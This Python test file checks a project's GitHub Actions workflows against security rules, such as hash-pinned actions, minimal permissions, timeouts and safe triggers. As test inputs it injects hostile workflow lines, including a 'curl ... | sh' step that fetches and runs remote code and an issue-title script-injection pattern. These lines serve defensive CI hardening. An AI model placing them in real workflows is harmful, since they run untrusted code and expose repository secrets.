"""The workflows on GitHub keep every rule, and a rule that is broken anywhere is told."""

import os

import pytest
import yaml

from tools import workflows
from tools.repo import ROOT

TEXTS = workflows.texts()
PIN = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"


def damaged(name, old, new, count=1):
    """The texts with one place of one file changed."""
    assert old in TEXTS[name], f"{name} has changed: {old!r} is not in it any more"
    return TEXTS | {name: TEXTS[name].replace(old, new, count)}


def told(texts):
    return "\n".join(map(str, workflows.problems(texts)))


def test_there_are_the_workflows():
    assert set(TEXTS) == set(workflows.NAMES)


def test_they_keep_every_rule():
    assert told(TEXTS) == ""


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        (PIN, "actions/checkout@v7", "not pinned by its hash"),
        (PIN, PIN.partition(" #")[0], "not pinned by its hash"),
        (PIN, PIN.replace("3d3c", "3d3d"), "has two versions"),
        (PIN, PIN.replace("7.0.1", "7.0.0"), "has two versions"),
        ("permissions: {}", "permissions: write-all", "all its jobs get rights"),
        ("permissions: {}", "permissions:\n  contents: read", "all its jobs get rights"),
        ("permissions: {}\n", "", "all its jobs get rights"),
        ("contents: read", "contents: write", "it may write contents"),
        ("contents: read", "contents: read\n      packages: write", "it may write packages"),
        ("    permissions:\n      contents: read # to check out\n", "", "rights are not listed"),
        ("timeout-minutes: ", "timeout-minutes: 1000", "it may run for"),
        ("    timeout-minutes:", "    # timeout-minutes:", "it may run for None"),
        ("    timeout-minutes:", "    continue-on-error: true\n    timeout-minutes:", "goes on"),
        ("        with:", "        continue-on-error: true\n        with:", "goes on after"),
        ("workflow_dispatch:", "workflow_dispatch:\n  pull_request_target:", "pull_request_target"),
        ("workflow_dispatch:", "workflow_run:\n    workflows: [GPU]", "started by workflow_run"),
        ("workflow_dispatch:", "issue_comment:", "started by issue_comment"),
        ("workflow_dispatch:", "push:", "started by any push"),
        ("persist-credentials: false", "persist-credentials: true", "keeps a token"),
        ("persist-credentials: false", "fetch-depth: 1", "keeps a token"),
        (
            "persist-credentials: false",
            "persist-credentials: false\n          ref: ${{ github.head_ref }}",
            "checks out something else",
        ),
        ("run: ", "run: echo ${{ github.event.issue.title }} && ", "stands in a script"),
        ("run: ", "run: curl -s example.test | sh; ", "it runs `curl"),
        ("timeout-minutes:", "env:\n      PYTEST_ADDOPTS: -k x\n    timeout-minutes:", "bends all"),
        ("permissions: {}", "permissions: {}\ndefaults: {run: {shell: 'true {0}'}}", "bends all"),
        ("run: ", "shell: 'true {0}'\n        run: ", "shell bends a script"),
    ],
)
def test_what_breaks_a_rule_is_told(name, old, new, said):
    assert said in told(damaged(name, old, new))


@pytest.mark.parametrize(
    ("name", "old", "new", "said"),
    [
        ("site.yml", "branches: [main]", "branches: ['**']", "started by any push"),
        (
            "site.yml",
            "run: make",
            "env: {PYTEST_ADDOPTS: -k x}\n        run: make",
            "bends a script",
        ),
        ("site.yml", "cache: pip\n", "cache: pipenv\n", "not by the pins"),
        ("gpu.yml", "cache-dependency-path:", "# cache-dependency-path:", "not by the pins"),
        (
            "releases.yml",
            'python-version: "3.13"',
            'python-version: "3.13"\n          cache: pip',
            "it fills a cache that others read",
        ),
        ("gpu.yml", "uses: actions/upload-artifact@", "uses: actions/cache@", "cache of its own"),
        ("releases.yml", "      issues: write", "      actions: write", "it may write actions"),
        ("gpu.yml", "      actions: write", "      contents: write", "it may write contents"),
        ("site.yml", "      id-token: write", "      contents: write", "it may write contents"),
    ],
)
def test_what_breaks_a_rule_in_one_place_is_told(name, old, new, said):
    assert said in told(damaged(name, old, new))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("jobs: {", "site.yml:1: this is no YAML"),
        ("on: push", "it has no events or no jobs"),
        ("jobs: {}", "it has no events or no jobs"),
        ("", "it has no events or no jobs"),
    ],
)
def test_what_is_no_workflow_is_told(text, said):
    assert said in told(TEXTS | {"site.yml": text})


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("on: push\njobs:\n  one: 3\n", "site.yml:3: job one is of another kind"),
        ("on: 3\njobs: {}\n", "site.yml:1: on is of another kind"),
        ("on: push\njobs:\n  one: {steps: [{run: 3}]}\n", "job one: steps 1: run is of another"),
        ("on: push\njobs:\n  one: {needs: [[]]}\n", "job one: needs is of another kind"),
        ("on: push\njobs:\n  one: {permissions: {3: read}}\n", "one: permissions: 3 is of another"),
    ],
)
def test_what_no_rule_can_look_into_is_told(text, said):
    assert said in told(TEXTS | {"site.yml": text})


@pytest.mark.parametrize("strategy", ["{}", "{matrix: {}}", "{matrix: {system: [gpu]}}"])
def test_a_job_that_names_no_hosted_machine_is_told(strategy):
    text = f"on: push\njobs:\n  a: {{runs-on: '${{{{ matrix.system }}}}', strategy: {strategy}}}\n"
    assert "it runs on a machine of ours" in told(TEXTS | {"site.yml": text})


def test_a_problem_names_the_file_and_the_line_of_the_job():
    [found] = workflows.problems(damaged("site.yml", "run: make check", "run: make checks"))[:1]
    line = TEXTS["site.yml"].split("\n").index("  check:") + 1
    assert (found.path, found.line) == (".github/workflows/site.yml", line)


def test_promised_systems_and_oldest_and_newest_python_are_tried():
    matrix = yaml.safe_load(TEXTS["site.yml"])["jobs"]["systems"]["strategy"]["matrix"]
    assert {system.partition("-")[0] for system in matrix["system"]} == {
        "ubuntu",
        "windows",
        "macos",
    }
    assert matrix["python"] == ["3.11", "3.14"]


@pytest.mark.parametrize("name", TEXTS)
def test_pip_is_cached_by_files_that_exist(name):
    for job in yaml.safe_load(TEXTS[name])["jobs"].values():
        for step in job["steps"]:
            path = step.get("with", {}).get("cache-dependency-path")
            assert path is None or (ROOT / path).is_file()


def test_ci_calls_the_same_command_as_everybody():
    script = ROOT / ".ci/run"
    assert script.read_text(encoding="utf-8").splitlines()[-1] == "exec make test"
    assert "set -eu" in script.read_text(encoding="utf-8")
    assert os.name == "nt" or os.access(script, os.X_OK)
